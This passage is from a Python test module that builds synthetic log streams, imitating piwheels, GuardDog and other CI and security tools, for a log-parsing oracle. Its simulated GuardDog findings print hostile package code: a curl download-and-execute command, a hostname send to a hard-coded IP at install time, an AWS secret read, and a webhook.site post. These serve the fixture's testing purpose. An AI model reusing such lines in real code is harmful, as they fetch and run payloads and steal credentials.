"""The 82-nd held-out set of real programs, measured before any rule is
written from it (see `heldout.py` to `heldout80.py`): six more programs'
own logging set-ups in three streams, chosen from CI and build tooling
and the security scanners a platform team runs beside it in AWS (a Python
platform team's ARM wheel farm, whose head node on EC2 runs piwheels'
piw-master for the team's Raspberry Pi build slaves and an hourly GuardDog
scan of the releases it queues; a security team's vulnerability-
management host on EC2, where SecObserve takes the CI pipelines' scanner
reports and cve-search keeps a local CVE database fed through CveXplore;
a CodeBuild security gate, where Tern inventories the freshly pushed
images' packages and ZAP's baseline scan checks the staging
deployments), each format copied from the file named beside it (the
version read is given), with the formatter class the program uses, and
messages modelled on the program's source under its loggers' names.

    .venv/bin/python tests/oracle/sweep.py heldout82

A by-hand measurement, like `heldout.py`: once a rule is written from one
of its failures, that program is no longer held out.
Its first measurement, at aeb1dd6 (session 31's rules in, none written
from this set), with nothing configured: 84.8% exact, 84.8% key
fields (asctime 99.9%, levelname 90.5%, name 98.7%, message 84.8%).

Formatters and filters: piwheels has a Formatter subclass of its own,
reproduced here: piw-master's configure_logging(console_name=True) puts
terminal.WidthFormatter with "%(name)s: %(message)s" on the root's stderr
handler (INFO with -v, as its systemd unit runs it): no time and no
level, only the task's logger name ("master", "master.slave_driver",
"master.cloud_gazer", "master.the_scribe"...), and the formatted message
(not the traceback after it) cut to 120 characters, the last three
"..." (the truth, `WidthJson`, keeps what the line shows: the slaves'
long hello warnings are cut mid-word). Its ErrorHandler (sys.excepthook)
logs an uncaught exception's traceback line by line, each a CRITICAL
record of the root logger ("root: ...", each "%" doubled and left so, as
no argument follows). The other five use logging.Formatter itself, with
no formatTime of their own. GuardDog's cli() gives its "guarddog" logger
a stderr handler with "%(levelname)s: %(message)s" at --log-level (DEBUG
here: the wrapper keeps an audit trail), so the same "word: message"
shape as piw-master's lines, with the level in the word's place.
SecObserve's LOGGING ("verbose",
stderr) prints "LEVEL | time | name | process thread | message" for the
root and for huey's logger, which also propagates to the root: the one
handler prints every huey warning twice ("Task ... not run, unable to
acquire lock ...", "Found stale locks: ..."). Its format_log_message
writes a dict's str() as the message, and its exception handler and task
wrappers log traceback.format_exc() as an ERROR message of its own
(several lines, ending in a newline). The process and thread fields are
pinned by a filter (`Ids`) to the gunicorn worker's or the huey
consumer's. gunicorn's own error log (its Logger's handler, "[time]
[pid] [LEVEL] message" with "[%Y-%m-%d %H:%M:%S %z]") lands in the same
stream. cve-search's HelperLogger class runs a dictConfig that gives the
root a stdout handler with "time - name - LEVEL - message", the name and
the level padded to eight; CveXplore's updaters put the same format on
stdout handlers of their own; both logger classes wrap every message in
ansicolors' color() before logging it ("\\x1b[37m...\\x1b[0m" for INFO,
33 for WARNING, 31 for ERROR), so the escape codes are part of the
message. Tern's "ternlog" logger has a stderr handler at DEBUG with "time
- LEVEL - module - message"; several of its messages (report/errors.py)
end with a newline, and a failed chroot command's stderr becomes a
multi-line "Command failed. ..." error. ZAP's zap-baseline.py calls
basicConfig with "%(asctime)s %(message)s" (root, stderr), DEBUG with -d:
no level and no name, and since it silences only the "requests" logger,
urllib3's connection-pool debug records (its proxied API calls, one
"Starting new HTTP connection (n)" per refused try while ZAP starts)
print through the same handler.

Print lines: the journal's systemd lines for piw-master and for GuardDog's
timer unit, the timer's wrapper lines and GuardDog's human-readable
reports (box-drawing rules, "│" rails, indented code lines, "Some rules
failed to run" to stderr); SecObserve's entrypoint (wait-for-it, Django's
migrate and collectstatic output, its echo lines), cve-search's exec
lines and tqdm's progress bars off a terminal (each line two states
after carriage returns); the CodeBuild agent's "[Container]" lines, apt,
pip and skopeo lines, zap-baseline.py's print()s (the "WARN-NEW: ..."
lines, each example URL after a tab, the tab-separated summary),
urllib3's InsecureRequestWarning and its source line, and, when the
admin UI's staging host is down, "ERROR [Errno 5] ...", the bare
traceback of dump_log_file's traceback.print_exc() and the zap.out lines
it copies to stderr.

The messages are modelled on the programs' source, read at the commits
cited: piwheels' terminal.py, tasks.py, master/__init__.py and
master/ (slave_driver.py, cloud_gazer.py, file_juggler.py, mr_chase.py,
the_scribe.py, the_secretary.py, the_architect.py, lumberjack.py) and
piwheels-master.service; GuardDog's cli.py, sandbox.py, analyzer/
analyzer.py, analyzer/metadata/typosquatting.py and pypi/, analyzer/
sourcecode/*.yar (the rules' identifiers and descriptions) and
reporters/human_readable.py; SecObserve's backend/config/settings/base.py
(LOGGING, HUEY), docker/backend/prod/django/entrypoint, commons/services/
log_message.py, background_tasks/ (services/task_base.py,
periodic_tasks/), notifications/ (api/exception_handler.py, services/
send_notifications.py, services/tasks.py), access_control/ (signals.py,
api/views.py), import_observations/ (parsers/cyclone_dx, parsers/ocsf,
parsers/osv, management/commands/register_parsers.py), epss/services/
cvss_bt.py, licenses/ and core/services/housekeeping.py, with huey 2.5.4
(coleifer/huey: api.py, consumer.py, contrib/djhuey/management/commands/
run_huey.py); cve-search's lib/LogHandler.py, sbin/db_updater.py,
web/index.py, web/VERSION, lib/Authentication.py, lib/ApiRequests.py and
lib/Sources_process.py, CveXplore's core/database_maintenance/
(update_base_class.py, main_updater.py, sources_process.py,
download_handler.py, api_handlers.py), core/nvd_nist/nvd_nist_api.py,
core/database_indexer/db_indexer.py, core/database_version/
db_version_checker.py and core/logging/logger_class.py, ansicolors'
color(); Tern's __main__.py, prep.py, utils/constants.py,
utils/rootfs.py, load/skopeo.py, analyze/common.py, analyze/default/
(core.py, collect.py, command_lib/command_lib.py, container/run.py,
image.py, single_layer.py, multi_layer.py), report/errors.py and
formats/spdx/spdxjson/generator.py; ZAP's docker/zap-baseline.py
(ff171f4f) and docker/zap_common.py (068c9470). Modelled rather than
read: the values (package names and versions, slave labels and serials,
hosts, addresses, users, products, ids, digests, counts and durations),
the order and number of records, the seven of GuardDog's source-code
rules shown (it runs them all) and its metadata rules' names (its pypi
detectors' module names), Tern's chroot snippets and fs_hash command
line, gunicorn's, urllib3's and Django's message texts (their own
formats), tqdm's, systemd's, CodeBuild's, apt's, pip's, skopeo's and the
zap.out lines, the exception texts, and the wrapper scripts.

Left out: MobSF (MobSF/Mobile-Security-Framework-MobSF 62563ca4
mobsf/MobSF/settings.py: its console handler is colorlog's
ColoredFormatter, "%(log_color)s[%(levelname)s] %(asctime)-15s -
%(message)s"), reNgine (yogeshojha/rengine f2f40582 web/reNgine/
settings.py and utilities.py: RengineTaskFormatter, a Celery
ColorFormatter with its colours on, colours the whole line at WARNING and
up, and its "%(task_name)-34s" is an attribute it sets itself), Anchore
Engine (anchore/anchore-engine f5ffac25 anchore_engine/subsys/logger.py:
a bootstrap basicConfig "[service:...] %(asctime)s [-] [%(name)s]
[%(levelname)s] %(message)s" until twisted's log observer, whose lines
are no logging records, takes over), britney2 (Debian/britney2 39e3ad9d
britney.py: "{shortlevelname}: [{asctime}] - {message}", a record-factory
attribute; the GitHub mirror read is years old), Codecov's worker
(codecov/worker 7a25b06e helpers/logging_config.py: python-json-logger's
JSON on every line), conda-forge-webservices (a0041e24
conda_forge_webservices/webapp.py: Tornado's LogFormatter with
"%(message)s"), cve-search's web gunicorn log (web/index.py's
GunicornLogger.setup adds no console handler: its error and access
records go to the log file only), and the programs of these areas found
by name in earlier sets or their Left out paragraphs: Buildbot, Zuul,
Nodepool, devpi, pypiserver, bandersnatch, Pulp, Koji, Copr, Bodhi,
Packit, Mergify, pypicloud, Quay, kas, KernelCI, LAVA, Marge-bot, homu,
Patchew, Bandit, Safety, detect-secrets, TruffleHog, ggshield, tartufo,
Prowler, ScoutSuite, Cloud Custodian, Checkov, DefectDojo, Faraday,
Wapiti, sqlmap, OWASP Nettacker, Cartography, kube-hunter, Security
Monkey and Repokid.
"""

import logging
import os
import sys
import hashlib
import traceback
import zlib

import gunicorn.glogging

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import realworld  # noqa: E402
from realworld import JsonFormatter, Program, printed, raised, uncaught  # noqa: E402
from heldout11 import container, now  # noqa: E402
from heldout12 import lg  # noqa: E402
from heldout13 import at  # noqa: E402

# piwheels 0.23 (piwheels/piwheels, 4df61888), piwheels/terminal.py
# configure_logging(console_name=True), as piwheels/master/__init__.py
# calls it: WidthFormatter on the root's _CONSOLE StreamHandler(sys.stderr),
# level INFO with -v (piwheels-master.service's ExecStart).
PIWHEELS = "%(name)s: %(message)s"
# GuardDog 3.0.2 (DataDog/guarddog, ca8b5b43), guarddog/cli.py cli(): the
# "guarddog" logger's StreamHandler(stream=sys.stderr), at --log-level.
GUARDDOG = "%(levelname)s: %(message)s"
# SecObserve 1.43.1 (MaibornWolff/SecObserve, 5a4a5046), backend/config/
# settings/base.py LOGGING's "verbose" formatter on the "console"
# StreamHandler (stderr) of the root and the "huey" logger.
SECOBSERVE = "%(levelname)s | %(asctime)s | %(name)s | %(process)d %(thread)d | %(message)s"
# cve-search (cve-search/cve-search, 28b78024), lib/LogHandler.py
# HelperLogger.logDict's "simpleFormatter" (the root's consoleHandler,
# stdout, INFO); CveXplore (cve-search/CveXplore, 6c605be0) core/
# database_maintenance/update_base_class.py puts the same format on its
# updaters' own StreamHandler(stream=sys.stdout).
CVESEARCH = "%(asctime)s - %(name)-8s - %(levelname)-8s - %(message)s"
# Tern 2.12.1 (tern-tools/tern, 717ea47b), tern/__main__.py's formatter,
# on the "ternlog" logger's console StreamHandler() (stderr, DEBUG).
TERN = "%(asctime)s - %(levelname)s - %(module)s - %(message)s"
# ZAP (zaproxy/zaproxy, ff171f4f), docker/zap-baseline.py's basicConfig
# (root, stderr, INFO; DEBUG with -d).
ZAP = "%(asctime)s %(message)s"


class WidthFormatter(logging.Formatter):
    """piwheels.terminal.WidthFormatter, as written there: the formatted
    message (name and message here, not the traceback) cut to 120
    characters, the last three an ellipsis."""

    def __init__(self, fmt=None, datefmt=None, style='%', maxwidth=120, ellipsis='...'):
        super().__init__(fmt, datefmt, style)
        self.maxwidth = maxwidth
        self.ellipsis = ellipsis

    def formatMessage(self, record):
        s = super().formatMessage(record)
        if len(s) > self.maxwidth:
            s = s[:self.maxwidth - len(self.ellipsis)] + self.ellipsis
        return s


class WidthJson(JsonFormatter):
    """The truth for piwheels: what the line shows of the message, the cut
    and its ellipsis included (no text can show the rest)."""

    def process_log_record(self, log_data):
        prefix = "%s: " % log_data["name"]
        full = prefix + log_data["message"]
        if len(full) > 120:
            log_data["message"] = (full[:117] + "...")[len(prefix):]
        return log_data


class Ids(logging.Filter):
    """The process and the thread a record comes from, pinned (standard
    attributes): gunicorn's arbiter and its gthread worker, the huey
    consumer started beside it, the entrypoint's manage.py commands."""

    def __init__(self):
        super().__init__()
        self.process, self.thread = 1, 140146532317056

    def filter(self, record):
        record.process, record.thread = self.process, self.thread
        return True


def colored(level, msg):
    """cve-search's HelperLogger (and CveXplore's AppLogger): every message
    wrapped in ansicolors' color() before it is logged, white for INFO,
    yellow for WARNING, red for ERROR, magenta for DEBUG."""
    code = {logging.DEBUG: 35, logging.INFO: 37, logging.WARNING: 33, logging.ERROR: 31, logging.CRITICAL: 31}[level]
    return "\x1b[%dm%s\x1b[0m" % (code, msg)


def tb_lines(fn):
    """traceback.format_exception's lines for what `fn` raises, each split
    at its newlines, as piwheels' ErrorHandler logs them."""
    try:
        fn()
    except Exception:
        exc_type, exc_value, exc_tb = sys.exc_info()
    out = []
    for line in traceback.format_exception(exc_type, exc_value, exc_tb):
        for msg in line.rstrip().split("\n"):
            out.append(msg)
    return out


SITE = "/usr/local/lib/python3.11/site-packages/"


# --------------------------------------------------------------------------
# A Python platform team's ARM wheel farm, head node on EC2 (the CloudWatch
# agent tails the host's console log, where systemd appends both units'
# output): piw-master (piwheels) watches PyPI for new releases and hands
# builds to the farm's Raspberry Pi build slaves over the site VPN; an
# hourly timer runs GuardDog over the releases queued since its last run
# before they are built (its wrapper keeps --log-level DEBUG for the audit
# trail and echoes each report).

SLAVES = [(1, "pi4-rack1-03", "cp311", "linux_armv7l", "12 (bookworm)", "c03114", "100000003f1a2b3c"),
          (2, "pi4-rack1-07", "cp311", "linux_armv7l", "12 (bookworm)", "c03115", "10000000a41c77d0"),
          (3, "pi3-rack2-02", "cp39", "linux_armv7l", "11 (bullseye)", "a22082", "00000000e2f9c1b8"),
          (4, "pi5-rack2-11", "cp311", "linux_aarch64", "12 (bookworm)", "d04170", "8e3c0b2a91f4d6e5")]
RELEASES = [("numpy", "2.1.3"), ("pillow", "11.0.0"), ("cryptography", "43.0.3"), ("pydantic-core", "2.27.1"),
            ("grpcio", "1.68.0"), ("lxml", "5.3.0"), ("pyzmq", "26.2.0"), ("msgpack", "1.1.0"),
            ("rpi-lgpio", "0.6"), ("gpiozero", "2.0.1"), ("orjson", "3.10.12"), ("aiohttp", "3.11.7"),
            ("psutil", "6.1.0"), ("opencv-python-headless", "4.10.0.84"), ("scipy", "1.14.1"),
            ("pymupdf", "1.24.14"), ("rapidfuzz", "3.10.1"), ("tokenizers", "0.20.3"), ("zstandard", "0.23.0"),
            ("picamera2", "0.3.23"), ("bcrypt", "4.2.1"), ("ruamel.yaml.clib", "0.2.12"), ("frozenlist", "1.5.0"),
            ("tensorflow-io-gcs-filesystem", "0.37.1")]
NEW = ["requestz-toolbelt", "colorsama", "pi-sense-hat-tools", "aws-cdk-lib-helpers", "numpy-financial",
       "rpi-ws281x-async", "flask-login-utils", "telegram-bot-rpi", "discordpy-selfbot", "bme680-driver"]


def stream_piwheels_guarddog():
    stream = []
    pw = Program("piwheels-master", "master", WidthFormatter(PIWHEELS), stream, truth=WidthJson)
    gd = Program("guarddog", "guarddog", logging.Formatter(GUARDDOG), stream)
    master = lg(pw, "master")
    root = lg(pw, "root")
    task_names = ["master.seraph", "master.the_oracle", "master.the_oracle", "master.the_oracle",
                  "master.lumberjack", "master.the_scribe", "master.the_secretary", "master.big_brother",
                  "master.file_juggler", "master.slave_driver", "master.mr_chase", "master.the_architect",
                  "master.cloud_gazer"]
    tasks = {name: lg(pw, name) for name in task_names}
    driver = tasks["master.slave_driver"]
    gazer = tasks["master.cloud_gazer"]
    juggler = tasks["master.file_juggler"]
    scribe = tasks["master.the_scribe"]
    lumber = tasks["master.lumberjack"]
    chase = tasks["master.mr_chase"]
    gdlog = lg(gd, "guarddog")

    def start_master():
        if start_master.count:
            printed(stream, "piwheels-master.service: Scheduled restart job, restart counter is at %d."
                    % start_master.count)
        printed(stream, "Started piwheels-master.service - piwheels master service.")
        start_master.count += 1
        master.info("PiWheels Master version %s", "0.23")
        master.info("starting tasks")
        for name in task_names:
            tasks[name].info("starting")
            if name == "master.the_scribe":
                scribe.info("building package cache")
                scribe.info("setting up output path")
            if name == "master.the_secretary":
                tasks[name].info("loading queued jobs")
            if name == "master.cloud_gazer":
                gazer.info("retrieving current state")
                gazer.info("querying upstream")
            tasks[name].info("started")
        master.info("started all tasks")
        master.info("all tasks ready")
        scribe.info("writing homepage")
        scribe.info("writing search index")
        scribe.info("writing sitemap")
        scribe.info("writing package index")
    start_master.count = 0

    def stop_master(crashed=None):
        if crashed:
            master.info("stopping tasks")
        else:
            master.warning("shutting down on SIGTERM")
            master.info("stopping tasks")
        for name in reversed(task_names):
            if name == "master.the_secretary":
                tasks[name].info("storing queued jobs")
            if name != crashed:
                tasks[name].info("stopping")
            tasks[name].info("stopped")
        master.info("stopped all tasks")
        master.info("closed all queues")

    def hello(slave):
        sid, label, abi, platform, osv, rev, serial = slave
        driver.warning("slave %d (%s): hello (build_timeout=%s, busy_timeout=%s, abi=%s, platform=%s, os_name=%s, "
                       "os_version=%s, board_revision=%s, board_serial=%s)", sid, label, "3:00:00", "0:05:00", abi,
                       platform, "Raspbian GNU/Linux" if platform.endswith("v7l") else "Debian GNU/Linux", osv, rev,
                       serial)

    build_id = [4418230]

    def build(slave, package, version, ok=True, files=1):
        sid, label, abi, platform = slave[:4]
        driver.info("slave %d (%s): build %s %s", sid, label, package, version)
        if not ok:
            driver.info("slave %d (%s): build failed", sid, label)
            build_id[0] += 1
            scribe.info("writing log for build %d", build_id[0])
            scribe.info("writing project page for %s", package)
            scribe.info("writing project json for %s", package)
            return
        driver.info("slave %d (%s): build succeeded", sid, label)
        norm = package.replace("-", "_").replace(".", "_")
        names = ["%s-%s-%s-%s-%s.whl" % (norm, version, abi, abi, platform)]
        if files > 1:
            names.append("%s-%s-%s-%s-%s.whl" % (norm, version, abi, abi, "linux_armv6l"))
        for k, name in enumerate(names):
            if k == 0:
                juggler.info("expecting transfer: %s", name)
                driver.info("slave %d (%s): send %s", sid, label, name)
            else:
                juggler.info("expecting transfer: %s", name)
                driver.info("slave %d (%s): send %s", sid, label, name)
            juggler.info("verified: %s", name)
            driver.info("slave %d (%s): verified transfer of %s", sid, label, name)
        build_id[0] += 1
        scribe.info("writing log for build %d", build_id[0])
        scribe.info("writing index for %s", package)
        scribe.info("writing project page for %s", package)
        scribe.info("writing project json for %s", package)

    def g(level, msg, *args):
        gdlog.log(level, msg, *args)

    def guarddog_scan(package, version, findings=None, fail=None, rule_error=None):
        tmp = "/tmp/tmp%08x" % zlib.crc32((package + version).encode())
        archive = "%s/%s-%s.tar.gz" % (tmp, package.replace("-", "_"), version)
        printed(stream, "guarddog-new-releases: guarddog pypi scan %s --version %s" % (package, version))
        g(logging.DEBUG, "Considering that '%s' is a remote target" % package)
        if fail:
            # cli.py _scan_remote_sandboxed: a failed download is an error of the report's, not an exception.
            g(logging.DEBUG, "Unable to download package, ignoring: " + fail)
            printed(stream, "No risks found in %s" % package)
            printed(stream, "Some rules failed to run while scanning %s:" % package)
            printed(stream, "* download-package: %s" % fail)
            printed(stream, "guarddog-new-releases: %s %s: exit 0" % (package, version))
            return
        g(logging.DEBUG, "Extracting %s -> %s in sandboxed subprocess", archive, tmp + "/" + package)
        g(logging.DEBUG, "Running metadata rules against package '%s'" % package)
        for rule in ("potentially_compromised_email_domain", "unclaimed_maintainer_email_domain",
                     "repository_integrity_mismatch", "typosquatting", "bundled_binary", "deceptive_author",
                     "metadata_mismatch"):
            g(logging.DEBUG, "Running rule %s against package '%s'" % (rule, package))
            if rule == "typosquatting":
                g(logging.DEBUG, "Running typosquatting heuristic on PyPI package %s" % package)
                g(logging.DEBUG, "Loading cache from: %sguarddog/analyzer/metadata/resources/top_pypi_packages.json"
                  % SITE)
                g(logging.DEBUG, "Cache loaded successfully with keys: ['downloaded_timestamp', 'packages']")
                g(logging.DEBUG, "Cache expired check: False (refresh enabled: True)")
            if rule == "repository_integrity_mismatch":
                g(logging.DEBUG, "Running repository integrity mismatch heuristic on package %s" % package)
                if package not in NEW:
                    g(logging.DEBUG, "Using GitHub URL https://github.com/%s/%s" % (package.split("-")[0], package))
        g(logging.DEBUG, "Sandbox: READ %s/%s" % (tmp, package))
        g(logging.DEBUG, "Sandbox: READ_WRITE %s" % tmp)
        g(logging.DEBUG, "Sandbox: network blocked")
        g(logging.DEBUG, "Sandbox: applied")
        g(logging.DEBUG, "Running yara rules against directory '%s/%s'" % (tmp, package))
        rules = ["capability-network-outbound", "capability-process-spawn", "threat-process-download-exec",
                 "threat-runtime-obfuscation-base64exec", "threat-setup-network-in-install",
                 "threat-runtime-environment-read", "threat-network-exfiltration"]
        for k, rule in enumerate(rules):
            g(logging.DEBUG, "Executing rule %s.yar" % rule)
            if rule_error and rule == rule_error[0]:
                g(logging.WARNING, "Rule %s.yar failed: %s" % (rule, rule_error[1]))
                continue
            hits = 0
            if findings:
                hits = sum(1 for f in findings if f[0] == rule)
            if hits and rule == "threat-runtime-environment-read":
                g(logging.DEBUG, "Filtered match in comment at %s-%s/setup.py:%d" % (package, version, 4))
            g(logging.DEBUG, "Rule %s.yar finished, took %.2fs (%d hits found)" % (rule, 0.04 + (k * 7 % 11) / 100,
                                                                                    hits))
        if not findings:
            g(logging.DEBUG, "No findings with risk metadata to analyze")
            printed(stream, "No risks found in %s" % package)
        else:
            g(logging.DEBUG, "Formed %d risk(s) at package level" % len(findings))
            score, label = (7.8, "high_risk") if len(findings) > 2 else (4.1, "suspicious")
            g(logging.DEBUG, "Package risk score: %s/10 (%s)" % (score, label))
            printed(stream, "Scanning %s, found %d risks." % (package, len(findings)))
            # HumanReadableReporter: by attack stage, then tactic; the common
            # path prefix stripped from the locations; blank lines dropped.
            for stage, tactics in (("Initial execution", ("execution",)), ("Post-compromise", ("credential-access",)),
                                   ("Exfiltration", ("exfiltration",))):
                risks = [f for f in findings if f[3] in tactics]
                if not risks:
                    continue
                printed(stream, "── %s ──" % stage)
                for tactic in tactics:
                    printed(stream, "%s-risk: found %d %s" % (tactic, len(risks), "indicator" if len(risks) == 1
                                                               else "indicators"))
                    for rule, identifies, desc, tactic_, where, code in risks:
                        printed(stream, "│ * %s" % identifies)
                        printed(stream, "│   %s" % desc)
                        printed(stream, "│   at %s" % where)
                        printed(stream, "│     %s" % code)
            printed(stream, "─" * 40)
            printed(stream, "Assessment:  %s  (%s/10)" % ("High risk" if label == "high_risk" else "Suspicious",
                                                           score))
            printed(stream, "%d risks detected" % len(findings))
        if rule_error:
            printed(stream, "Some rules failed to run while scanning %s:" % package)
            printed(stream, "* %s: failed to run rule: %s" % rule_error)
        printed(stream, "guarddog-new-releases: %s %s: exit %d" % (package, version, 1 if findings else 0))

    start_master()
    for slave in SLAVES:
        hello(slave)
    busy = {}
    n_rel = 0
    for n in range(40):
        slave = SLAVES[n % len(SLAVES)]
        sid, label = slave[:2]
        # PyPI's changelog, read every ten seconds.
        if n % 3 == 0:
            pkg = NEW[(n // 3) % len(NEW)]
            gazer.info("added package %s", pkg)
            gazer.info("added package %s version %s", pkg, "0.%d.%d" % (1 + n % 4, n % 7))
            gazer.info("enabled package %s version %s", pkg, "0.%d.%d" % (1 + n % 4, n % 7))
        package, version = RELEASES[n_rel % len(RELEASES)]
        n_rel += 1
        gazer.info("added package %s version %s", package, version)
        if n % 5 == 2:
            gazer.info("disabled package %s version %s (binary only)", package, version + ".post1")
        if n % 11 == 7:
            gazer.info("yanked package %s version %s", RELEASES[(n + 5) % len(RELEASES)][0],
                       RELEASES[(n + 5) % len(RELEASES)][1])
        if n % 13 == 9:
            gazer.info("marking package %s version %s for deletion", NEW[n % len(NEW)], "0.0.1")
            driver.info("marking package %s %s as excluded", NEW[n % len(NEW)], "0.0.1")
        if n % 17 == 16:
            gazer.warning("ignoring version with silly length: %s %s", "nightly-builds-aarch64",
                          "0.0.0.dev" + "2024051114" * 21)
        # The build slaves.
        if slave[2] == "cp39" and n % 8 == 2:
            driver.info("slave %d (%s): sleeping because no builds", sid, label)
        elif package == "tensorflow-io-gcs-filesystem":
            driver.info("slave %d (%s): build %s %s", sid, label, package, version)
            busy[sid] = (package, version)
        else:
            build(slave, package, version, ok=(n % 7 != 5), files=(2 if package in ("rpi-lgpio", "gpiozero") else 1))
        if n % 4 == 1:
            for kind, count in (("downloads", 1800 + n * 37 % 900), ("searches", 3 + n % 5), ("project hits", 41 + n),
                                ("JSON hits", 12 + n % 9), ("page hits", 7 + n % 4)):
                if count:
                    lumber.info("logged %d %s in the last minute", count, kind)
        if n in (18, 33):
            for sid_, (package_, version_) in list(busy.items()):
                s = [x for x in SLAVES if x[0] == sid_][0]
                driver.warning("slave %d (%s): timed out while building %s %s for %s", sid_, s[1], package_, version_,
                               s[2])
                del busy[sid_]
        if n == 12:
            # An import from piw-add, the admins' manual wheel.
            chase.info("registered build for %s %s", "rpi-ws281x", "5.0.0")
            chase.info("send %s", "rpi_ws281x-5.0.0-cp311-cp311-linux_armv7l.whl")
            juggler.info("expecting transfer: %s", "rpi_ws281x-5.0.0-cp311-cp311-linux_armv7l.whl")
            juggler.warning("verification failed: %s", "rpi_ws281x-5.0.0-cp311-cp311-linux_armv7l.whl")
            chase.info("re-send %s", "rpi_ws281x-5.0.0-cp311-cp311-linux_armv7l.whl")
            juggler.info("verified: %s", "rpi_ws281x-5.0.0-cp311-cp311-linux_armv7l.whl")
            chase.info("verified transfer of %s", "rpi_ws281x-5.0.0-cp311-cp311-linux_armv7l.whl")
            scribe.info("writing index for %s", "rpi-ws281x")
            scribe.info("writing project page for %s", "rpi-ws281x")
        if n == 20:
            chase.error("unknown package version %s %s", "rpi-ws281x", "5.0.1rc1")
        if n == 27:
            driver.warning("slave %d (%s): shutdown", 3, "pi3-rack2-02")
        if n == 29:
            hello(SLAVES[2])
        if n == 22:
            # The database's failover: the oracle's query dies, the master stops and systemd restarts it.
            def handle_db_request():
                def execute():
                    raised("sqlalchemy.exc", "OperationalError", "(psycopg2.OperationalError) server closed the "
                           "connection unexpectedly\n\tThis probably means the server terminated abnormally\n\tbefore "
                           "or while processing the request.\n\n[SQL: SELECT get_build_abis(%(exclude_skipped)s)]\n"
                           "(Background on this error at: https://sqlalche.me/e/20/e3q8)")
                execute()
            oracle = tasks["master.the_oracle"]
            try:
                handle_db_request()
            except Exception:
                oracle.error("Error handling db request: %s", "GETABIS")
                oracle.exception("unhandled exception in %r", realworld.Shown(
                    "<TheOracle(master.the_oracle, started 281473012844832)>"))
            stop_master(crashed="master.the_oracle")
            # The restart: the database is not back yet, and the main thread's excepthook logs the traceback.
            printed(stream, "piwheels-master.service: Main process exited, code=exited, status=0/SUCCESS")
            printed(stream, "piwheels-master.service: Scheduled restart job, restart counter is at 1.")
            printed(stream, "Started piwheels-master.service - piwheels master service.")
            start_master.count += 1
            master.info("PiWheels Master version %s", "0.23")

            def main_():
                def init_db():
                    raised("sqlalchemy.exc", "OperationalError", '(psycopg2.OperationalError) connection to server at '
                           '"piwheels-db.cluster-c9xq2ab3kd1e.eu-west-1.rds.amazonaws.com" (10.40.2.17), port 5432 '
                           'failed: Connection refused\n\tIs the server running on that host and accepting TCP/IP '
                           'connections?\n\n(Background on this error at: https://sqlalche.me/e/20/e3q8)')
                init_db()
            for line in tb_lines(main_):
                root.critical(line.replace("%", "%%"))
            printed(stream, "piwheels-master.service: Main process exited, code=exited, status=1/FAILURE")
            printed(stream, "piwheels-master.service: Failed with result 'exit-code'.")
            start_master()
            for slave_ in SLAVES:
                hello(slave_)
        if n == 30:
            master.warning("Forcing sleep due to lack of disk space (%.1f GB)", 0.9)
            master.warning("Wake-up must be performed from monitor (or restart)")
            for name in task_names:
                if name in ("master.slave_driver", "master.cloud_gazer", "master.the_architect", "master.mr_chase"):
                    tasks[name].info("paused")
            for slave_ in SLAVES[:3]:
                driver.info("slave %d (%s): sleeping because master is paused", slave_[0], slave_[1])
            for name in task_names:
                if name in ("master.slave_driver", "master.cloud_gazer", "master.the_architect", "master.mr_chase"):
                    tasks[name].info("resumed")
            tasks["master.the_architect"].warning("resumed while not paused")
        if n == 37:
            driver.error("slave %d (%s): protocol error (IDLE after %s)", 4, "pi5-rack2-11", "BUILD")
            hello(SLAVES[3])
        if n % 10 == 5:
            # GuardDog's hourly timer: the releases queued since its last run.
            printed(stream, "Starting guarddog-new-releases.service - GuardDog scan of newly queued releases...")
            batch = [RELEASES[(n + k) % len(RELEASES)] for k in range(2)] + [(NEW[(n // 10 + 3) % len(NEW)],
                                                                               "0.1.%d" % (n // 10))]
            if n == 5:
                g(logging.INFO, "Cache is expired, attempting to refresh from: https://hugovk.github.io/"
                  "top-pypi-packages/top-pypi-packages.min.json")
                g(logging.INFO, "Saving refreshed cache with 15000 packages to %sguarddog/analyzer/metadata/"
                  "resources/top_pypi_packages.json" % SITE)
            for k, (p, v) in enumerate(batch):
                if p in NEW and n in (15, 35):
                    mod = p.replace("-", "_")
                    guarddog_scan(p, v, findings=[
                        ("threat-process-download-exec", "threat.process.spawn", "Detects download-and-execute "
                         "patterns: fetching a remote file then executing it", "execution", "setup.py:24",
                         "os.system('curl -s http://45.9.148.108/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &')"),
                        ("threat-runtime-environment-read", "threat.runtime.environment.read", "Detects reading of "
                         "environment variables (credential access, often contains secrets)", "credential-access",
                         "%s/__init__.py:8" % mod, "token = os.environ['AWS_SECRET_ACCESS_KEY']"),
                        ("threat-setup-network-in-install", "threat.network.outbound", "Detects network operations "
                         "or hostname/system info collection in setup.py, which is suspicious at install time",
                         "exfiltration", "setup.py:23", "urllib.request.urlopen('http://45.9.148.108/c', "
                         "data=socket.gethostname().encode())")])
                elif p in NEW and n == 25:
                    guarddog_scan(p, v, fail="Received status code: 404 from PyPI")
                elif p in NEW and n == 5:
                    mod = p.replace("-", "_")
                    guarddog_scan(p, v, findings=[
                        ("threat-runtime-environment-read", "threat.runtime.environment.read", "Detects reading of "
                         "environment variables (credential access, often contains secrets)", "credential-access",
                         "%s/config.py:12" % mod, "TOKEN = os.getenv('TELEGRAM_TOKEN')"),
                        ("threat-network-exfiltration", "threat.network.outbound", "Detects URLs to suspicious "
                         "domains often used for exfiltration or C2", "exfiltration", "%s/client.py:41" % mod,
                         "requests.post('https://webhook.site/3f1c9a2e-77b0-4d5e-9c1a-0b8e2f6d4a11', json=state)")])
                elif k == 1 and n == 25:
                    guarddog_scan(p, v, rule_error=("threat-runtime-obfuscation-base64exec",
                                                    "could not open file \"/tmp/tmpq2w9x1re/%s/%s-%s/build/"
                                                    "lib.linux-armv7l/_core.so\": Permission denied" % (p, p, v)))
                else:
                    guarddog_scan(p, v)
            printed(stream, "guarddog-new-releases.service: Deactivated successfully.")
    stop_master()
    return {"name": "piwheels-guarddog", "programs": [pw, gd], "records": stream, "auto": False}



# --------------------------------------------------------------------------
# A security team's vulnerability-management host on EC2 (the CloudWatch
# agent ships the host's containers to one stream): SecObserve's backend
# (gunicorn with gthread workers, its huey consumer started beside it by
# the entrypoint) takes the CI pipelines' scanner reports and runs its
# periodic imports; cve-search serves the team's CVE look-ups from its web
# container, and its db_updater (-l -c) refreshes the CVE, CPE, CWE, CAPEC,
# VIA4 and EPSS collections through CveXplore every hour.

PRODUCTS = ["payments-api", "web-shop", "identity-service", "order-events", "mobile-bff", "search-indexer"]
